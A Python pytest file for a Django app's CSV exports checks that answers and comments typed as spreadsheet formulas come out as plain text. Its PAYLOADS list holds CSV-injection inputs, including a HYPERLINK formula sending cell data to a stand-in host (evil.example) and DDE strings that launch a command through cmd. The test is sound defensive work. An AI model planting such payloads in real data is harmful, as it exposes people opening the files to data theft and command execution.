"""The secretariat's CSV exports: what a city typed reaches a spreadsheet as text, never as a formula (bug 1)."""

import csv
import io

import pytest

from core.csv import FORMULA_START
from index import services
from index.models import Answer

from .factories import assessment_through

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _rows(client, url) -> list[dict]:
    return list(csv.DictReader(io.StringIO(client.get(url).content.decode())))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_bug1_answers_and_comments_typed_as_formulas_are_exported_as_text(
    client_as, edition, city_a, coordinator_a, secretariat, payload
):
    assessment = assessment_through(
        city_a,
        edition,
        2023,
        by=coordinator_a,
        until="submitted",
        answers=[
            {"question": "c.notes", "text": payload, "comment": payload},
            {"question": "c.statement", "choices": ["yes"], "comment": payload},
        ],
    )
    answer = Answer.objects.get(assessment=assessment, question__code="c.statement")
    services.answer_override(answer=answer, points=0, reason=payload, by=secretariat)
    rows = _rows(client_as("secretariat"), "/index/secretariat/T-1/2023/answers.csv")
    notes, statement = (next(row for row in rows if row["question"] == code) for code in ("c.notes", "c.statement"))
    typed = [notes["text"], notes["comment"], statement["comment"], statement["override_reason"]]
    stored = payload.strip()  # the services keep what was typed, without surrounding blanks
    assert typed == ["'" + stored] * 4
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row


def test_numbers_stay_numbers_in_the_results_export(client_as, edition, city_a, secretariat):
    assessment_through(city_a, edition, 2023, by=secretariat)
    (row,) = _rows(client_as("secretariat"), "/index/secretariat/T-1/2023/results.csv")
    assert row["core"] == "25.0" and row["commitment"] == "50.0" and row["city"] == "city-a"
    assert row["peers:network:percentile"] == ""  # no peer at all
